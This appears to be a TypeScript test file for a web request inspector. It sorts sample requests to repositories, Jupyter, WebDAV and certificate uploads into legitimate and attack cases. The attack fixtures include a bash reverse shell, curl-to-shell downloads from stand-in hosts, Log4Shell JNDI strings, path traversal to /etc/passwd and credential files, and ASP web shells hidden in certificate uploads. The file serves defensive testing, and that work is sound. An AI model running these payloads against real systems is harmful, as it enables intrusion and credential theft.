import type { InspectedRequest } from '../src/index.ts'
import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

function put(path: string, body = 'a: 1\n'): InspectedRequest {
  return { method: 'PUT', target: path, headers: [], body: Buffer.from(body) }
}

function uploaded(name: string, content: Buffer | string): InspectedRequest {
  const head = `--b\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n`
  return {
    method: 'POST',
    target: '/upload',
    headers: ['content-type', 'multipart/form-data; boundary=b'],
    body: Buffer.concat([Buffer.from(head), Buffer.from(content), Buffer.from('\r\n--b--\r\n')]),
  }
}

/** As a Jupyter server takes the text of a file. */
function kept(name: string, content: string, folder = '/api/contents'): InspectedRequest {
  const body = Buffer.from(JSON.stringify({ type: 'file', format: 'text', content }))
  return { method: 'PUT', target: `${folder}/${name}`, headers: ['content-type', 'application/json'], body }
}

/** As `hg push` hands over what was changed. */
function pushed(content: string, type = 'application/mercurial-0.1', start = 'HG20'): InspectedRequest {
  return {
    method: 'POST',
    target: '/shop?cmd=unbundle',
    headers: ['content-type', type],
    body: Buffer.concat([Buffer.from(start), Buffer.from([0, 0, 0, 7, 255]), Buffer.from(content)]),
  }
}

/** As `svn commit` hands over the text of a small file, which it leaves as it is. */
function committed(
  content: string,
  path = '/shop/!svn/txr/2-6/trunk/src/a',
  mark = 'SVN\0',
): InspectedRequest {
  return {
    method: 'PUT',
    target: path,
    headers: ['content-type', 'application/vnd.svn-svndiff'],
    body: Buffer.concat([Buffer.from(mark), Buffer.from([0, 0, 40, 2, 40, 168]), Buffer.from(content)]),
  }
}

/** A sequence in DER that fills the file, with some bytes in it. */
function der(inside: Buffer | string = Buffer.alloc(600, 5)): Buffer {
  const content = Buffer.from(inside)
  return Buffer.concat([Buffer.from([0x30, 0x82, content.length >> 8, content.length & 255]), content])
}

const PEM = `-----BEGIN CERTIFICATE-----\n${der()
  .toString('base64')
  .replace(/(.{64})/g, '$1\n')}\n-----END CERTIFICATE-----\n`

/** Files by their names: what forges, folders of people and forms hold, and what a scanner asks for. */
const KINDS: HonestKinds = {
  'changes of a schema that a page loads for its own database': {
    honest: [
      asked('/data/migrations/1548957970627_remove-db-version.sql', {}),
      asked('/drizzle/0000_init.sql', {}),
      asked('/migrations/20240101_init/migration.sql', {}),
    ],
    attacks: [
      asked('/backup/migrations.sql', {}),
      asked('/migrations/.env', {}),
      asked('/migrations/dump.sql.gz', {}),
      asked('/migrations/../dump.sql', {}),
      asked('/data/dump.sql', {}),
      asked('/migrations/old.bak', {}),
    ],
  },
  'files of a repository in Subversion and in cgit': {
    honest: [
      asked('/svn/trunk/.env', {}),
      asked('/svn/shop/branches/next/config/.htaccess', {}),
      put('/svn/!svn/txr/3-5/trunk/.env'),
      asked('/cgit/shop.git/tree/.env', { h: 'main' }),
      asked('/shop.git/plain/db/schema.sql', {}),
    ],
    attacks: [
      asked('/trunk/.env', {}),
      asked('/svn/branches/.env', {}),
      put('/svn/trunk/.htaccess'),
      asked('/svn/trunk/.git/config', {}),
      asked('/.git/tree/.env', {}),
      asked('/shop.git/.env', {}),
    ],
  },
  'sources that a client of Mercurial pushes': {
    honest: [
      pushed('index.php\n<?php system("make"); ?>\n'),
      pushed('run.sh\ncd /tmp; cat /etc/passwd\n', 'application/mercurial-0.2', 'HG10'),
    ],
    attacks: [
      pushed('index.php\n<?php system("make"); ?>\n', 'application/mercurial-0.1', 'HG30'),
      pushed('index.php\n<?php system("make"); ?>\n', 'application/mercurial-0.1x'),
      pushed('run.sh\ncd /tmp; cat /etc/passwd\n', 'image/png'),
    ],
  },
  'sources that a client of Subversion commits': {
    honest: [
      committed('<?php system("make"); ?>\n'),
      committed('#!/bin/sh\ncd /tmp; cat /etc/passwd\n', '/!svn/txr/2-7/trunk/run.sh', 'SVN\u0001'),
      committed('<script>alert(1)</script>\n', '/svn/!svn/wrk/6f/trunk/a.html', 'SVN\u0002'),
    ],
    attacks: [
      committed('<?php system("make"); ?>\n', '/uploads/trunk/a'),
      committed('<?php system("make"); ?>\n', undefined, 'SVX\0'),
      committed('<?php system("make"); ?>\n', undefined, 'SVN9'),
    ],
  },
  'cards, dates and sources that are put by their names': {
    honest: [
      put('/ann/book/c1.vcf', 'BEGIN:VCARD\r\nNOTE:on the server && cat /etc/passwd\r\nEND:VCARD\r\n'),
      put('/ann/work/e1.ics', 'BEGIN:VCALENDAR\r\nDESCRIPTION:x; SELECT * FROM x\r\n'),
      put('/docs/run.sh', '#!/bin/sh\ncurl -fsSL https://x.example/install.sh | sh\n'),
      put('/dav/Dockerfile', 'FROM debian\nRUN curl -fsSL https://x.example/install.sh | sh\n'),
      put('/docs/Main.java', 'class Main { String q = "\' UNION SELECT password FROM users-- "; }\n'),
    ],
    attacks: [
      put('/docs/run.sh', 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n'),
      put('/docs/run', '#!/bin/sh\ncurl -fsSL https://x.example/install.sh | sh\n'),
      put('/docs/x.php', '#!/bin/sh\n<?php system("id"); ?>\n'),
      put('/docs/x.html', '<script>alert(1)</script>'),
      put('/ann/c1.vcf/x', 'BEGIN:VCARD\r\nNOTE:on the server && cat /etc/passwd\r\nEND:VCARD\r\n'),
      posted('text/vcard', 'BEGIN:VCARD\r\nNOTE:x && cat /etc/passwd\r\n', '/c1.vcf'),
    ],
  },
  'files that people edit in Jupyter': {
    honest: [
      kept('run.sh', 'cd /tmp\ncurl -fsSL https://x.example/install.sh | bash; rm -rf build\n'),
      kept('q.sql', "SELECT * FROM a WHERE b = '' OR 1=1 -- all"),
      kept('x.php', '<?php system($_GET["c"]); ?>'),
      kept('x.html', '<script>alert(1)</script>'),
      kept('.env', 'A=1', '/user/ann/api/contents'),
      asked('/api/contents/.env', { content: '0' }),
      asked('/lab/tree/work/schema.sql', {}),
      posted('application/json', '{"cells":[{"cell_type":"code","source":"eval(open(1).read())"}]}'),
    ],
    attacks: [
      kept('run.sh', '$' + '{jndi:ldap://evil.example/a}'),
      kept('run.sh', '; rm -rf /srv', '/api/notes'),
      kept('.git/config', 'a'),
      asked('/files/.env', {}),
      asked('/api/contents/.git/config', {}),
    ],
  },
  'files of a repository': {
    honest: [
      asked('/ann/app/blob/main/.travis.yml', {}),
      asked('/ann/app/raw/v1.2/db/schema.sql', {}),
      asked('/group/sub/app/-/blob/main/.gitlab-ci.yml', {}),
      asked('/ann/app/src/branch/main/.env.example', {}),
      asked('/repos/ann/app/contents/docker-compose.yml', { ref: 'main' }),
      asked('/api/v1/repos/ann/app/contents/src/App.csproj', {}),
      put('/api/v1/repos/ann/app/contents/docker-compose.yml'),
      asked('/ann/app/-/blame/main/app/config/database.yml', {}),
      asked('/ann/app/-/commits/main/config/database.yml', {}),
      asked('/ann/app/-/refs/main/logs_tree/.env.local', {}),
      asked('/ann/app/_edit/main/.env', {}),
      asked('/ann/app/_delete/main/.travis.yml', {}),
      asked('/ann/app/lastcommit/0a1b2c/.env', {}),
      asked('/projects/SHOP/repos/app/browse/.env', { at: 'refs/heads/main' }),
      asked('/projects/SHOP/repos/app/raw/config/database.yml', {}),
      asked('/rest/api/1.0/projects/SHOP/repos/app/browse/.env', {}),
      asked('/api/v1/repos/ann/app/raw/.env', { ref: 'main' }),
      asked('/api/v1/repos/ann/app/media/.env', {}),
      filled({ tree_path: 'config/.env', content: 'PORT=80' }, '/ann/app/_edit/main/config/.env'),
      filled({ tree_path: 'site/.htaccess', content: 'Options -Indexes' }, '/ann/app/_new/main/'),
      filled({ _method: 'put', file_path: 'a/.env', content: 'A=1' }, '/ann/app/-/update/main/a/.env'),
      sent(
        { actions: [{ action: 'create', file_path: 'ci/.env', content: 'curl -fsS https://x | sh\n' }] },
        '/api/v4/projects/1/repository/commits',
      ),
      sent(
        { tree: [{ path: '.ci.yml', content: 'run: curl -fsS https://x | sh' }] },
        '/repos/ann/app/git/trees',
      ),
    ],
    attacks: [
      asked('/docker-compose.yml', {}),
      asked('/app/.env', {}),
      asked('/ann/app/raw/main/.git/config', {}),
      asked('/ann/app/blob/main/.ssh/id_rsa', {}),
      asked('/raw/.env', {}),
      asked('/ann/app/raw/../../.env', {}),
      asked('/ann/app/raw/x/..;/..;/..;/.env', {}),
      asked('/ann/app/raw/x/%2e%2e/%2e%2e/.env', {}),
      asked('/ann/app/raw/main/../../../../etc/passwd', {}),
      put('/ann/app/raw/main/.htaccess', 'AddType application/x-httpd-php .txt'),
      asked('/ann/app/_edit/main/.git/config', {}),
      asked('/projects/SHOP/repos/app/browse/.aws/credentials', {}),
      asked('/projects/SHOP/browse/.env', {}),
      asked('/config/database.yml', {}),
      asked('/api/v1/raw/.env', {}),
      filled({ tree_path: 'config/.env' }),
      filled({ tree_path: '../../../etc/passwd' }, '/ann/app/_edit/main/a'),
      filled({ path: 'config/.env' }, '/ann/app/_edit/main/a'),
      sent({ tree: [{ content: 'curl http://203.0.113.9/x | sh' }] }),
      sent({ tree: [{ content: '${jndi:ldap://x.example/a}' }] }, '/repos/ann/app/git/trees'),
    ],
  },
  'files of a person over WebDAV': {
    honest: [
      asked('/remote.php/dav/files/ann/docker-compose.yml', {}),
      put('/remote.php/dav/files/ann/home/backup.sql', 'select 1'),
      put('/dav/ann/.bashrc', 'alias ll="ls -l"\n'),
    ],
    attacks: [put('/dav/ann/.htaccess', 'x'), put('/dav/ann/web.config', 'x'), asked('/dav/.env', {})],
  },
  certificates: {
    honest: [
      uploaded('idp.cer', der()),
      uploaded('www.shop.example.cer', PEM),
      uploaded('Company Root (2026).cer', der()),
    ],
    attacks: [
      uploaded('shell.cer', '<%eval request("a")%>'),
      uploaded('shell.cer', der(`${'a'.repeat(300)}<%eval request("a")%>`)),
      uploaded('shell.cer', der(`${'a'.repeat(300)}<SCRIPT runat=server>x</SCRIPT>`)),
      uploaded('shell.cer', der(`${'a'.repeat(300)}<!-- #include file="web.config" -->`)),
      uploaded('shell.cer', Buffer.concat([der(), Buffer.from('more')])),
      uploaded('shell.php.cer', der()),
      uploaded('shell.asp;.cer', der()),
      uploaded('a.cer', '0\u0082'),
    ],
  },
  'files named after a database': {
    honest: [
      uploaded('mysql.sql', 'select 1'),
      uploaded('mysql.conf', 'a = 1'),
      asked('/s', { q: 'mysql.yml' }),
    ],
    attacks: [asked('/s', { q: 'mysql.user' }), asked('/s', { q: 'information_schema.tables' })],
  },
}

testKinds(KINDS)
